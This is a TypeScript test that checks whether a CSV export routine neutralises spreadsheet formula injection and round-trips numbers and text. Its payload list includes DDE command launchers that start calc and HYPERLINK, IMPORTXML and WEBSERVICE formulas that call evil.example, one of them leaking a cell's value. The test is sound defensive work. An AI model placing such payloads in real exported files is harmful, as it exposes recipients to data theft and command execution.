// E4: text in a CSV file that a spreadsheet would run as a formula is neutralised, numbers stay the numbers they are, also
// negative ones, and what is read back is what was written. `node tests/proofs/formulas.ts 10000` (random tables)
import { type Cell, csvOf } from '@solvent/core/report';
import { seeded } from '@solvent/store/proofs';
import { below, command, type Figures, pick } from './proof.ts';

const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '|', '%', '＝', '＋', '－', '＠'];
const befores = ['', ' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\t ', '\n'];
const attacks = [
  '1+1',
  'SUM(A1:A9)',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://evil.example/?x="&A1,"here")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  `DDE("cmd";"/C calc";"x")`,
  '1",=1+1,"',
  '1\r\n=2+2',
];
/** What a spreadsheet reads as the start of a formula once blanks before it are dropped. */
const runs = /^[\s\u200b\u2060\ufeff]*[=+\-@|%＝＋－＠]/;

export async function formulas(count: number, seed: number): Promise<Figures> {
  const problems: string[] = [];
  const payloads = befores.flatMap((before) =>
    triggers.flatMap((trigger) => attacks.map((attack) => `${before}${trigger}${attack}`)),
  );
  for (const payload of payloads) {
    const [[cell = ''] = []] = readCsv(csvOf({ columns: ['x'], rows: [{ x: payload }] })).slice(1);
    if (runs.test(cell)) problems.push(`runs: ${JSON.stringify(payload)}`);
    if (cell !== payload && cell !== `'${payload}`)
      problems.push(`says something else: ${JSON.stringify(payload)}`);
  }
  const random = seeded(seed);
  let numbers = 0;
  for (let i = 0; i < count; i++) {
    const columns = ['a', 'b', 'c', 'd'];
    const rows = Array.from({ length: 1 + below(random, 4) }, () =>
      Object.fromEntries(columns.map((column) => [column, randomCell(random)])),
    );
    const read = readCsv(csvOf({ columns, rows })).slice(1);
    for (const [r, row] of rows.entries())
      for (const [c, column] of columns.entries()) {
        const [was, is] = [row[column] ?? null, read[r]?.[c]];
        const wanted = was === null ? '' : typeof was === 'string' ? was : was.number;
        if (was !== null && typeof was !== 'string') numbers++;
        const same = is === wanted || (typeof was === 'string' && is === `'${wanted}`);
        if (!same) problems.push(`${JSON.stringify(was)} is read back as ${JSON.stringify(is)}`);
        if (typeof was === 'string' && runs.test(is ?? '')) problems.push(`runs: ${JSON.stringify(was)}`);
      }
  }
  return {
    wrong: problems.length,
    payloads: payloads.length,
    tables: count,
    numbersUnchanged: numbers,
    problems: problems.slice(0, 6),
  };
}

function randomCell(random: () => number): Cell {
  const kind = below(random, 4);
  if (kind === 0) return null;
  if (kind === 1)
    return { number: `${random() < 0.5 ? '-' : ''}${below(random, 1e9)}.${below(random, 100)}` };
  const alphabet = [...triggers, ...befores, ',', '"', '\r\n', 'a', '亏', '1', "'", ';'];
  return Array.from({ length: below(random, 8) }, () => pick(random, alphabet)).join('');
}

/** RFC 4180, read by its grammar and not by the writer's code. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let [row, cell]: [string[], string] = [[], ''];
  for (let i = 0; i < text.length; ) {
    if (text[i] === '"' && cell === '') {
      for (i++; text[i] !== '"' || text[i + 1] === '"'; i += text[i] === '"' ? 2 : 1) cell += text[i];
      i++;
    } else if (text[i] === ',' || text.startsWith('\r\n', i)) {
      row.push(cell);
      cell = '';
      if (text[i] === ',') i++;
      else {
        rows.push(row);
        row = [];
        i += 2;
      }
    } else cell += text[i++];
  }
  return rows;
}

if (import.meta.main) await command('E4', 10_000, formulas);
